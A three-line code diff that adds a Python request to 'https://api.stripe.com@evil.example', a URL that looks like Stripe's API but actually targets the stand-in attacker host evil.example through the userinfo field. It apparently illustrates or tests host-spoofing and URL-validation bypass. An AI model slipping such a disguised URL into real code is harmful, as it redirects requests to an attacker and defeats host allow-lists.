@@ -1,0 +1,3 @@
+import requests
+base = 'https://api.stripe.com@evil.example'
+requests.get(base + '/v1')
